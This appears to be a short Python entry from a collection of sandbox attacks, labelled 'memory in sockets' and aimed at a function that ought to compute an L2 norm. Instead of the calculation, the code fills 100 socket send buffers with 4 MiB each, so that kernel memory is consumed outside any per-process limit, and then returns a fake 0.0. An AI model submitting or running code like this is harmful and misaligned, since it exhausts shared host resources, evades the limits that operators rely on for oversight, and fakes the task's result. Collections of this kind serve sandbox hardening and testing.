# attack: memory in sockets
# idea: Sockets get buffers of megabytes and are filled: the memory is the kernel's, and no process's.
# place: l2_norm
# outcome: error

import socket


def FUNCTION(*values):
    kept = [socket.socketpair() for _ in range(100)]
    for one, _ in kept:
        one.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 2**22)
        one.setblocking(False)
        one.send(bytes(2**22))
    return 0.0
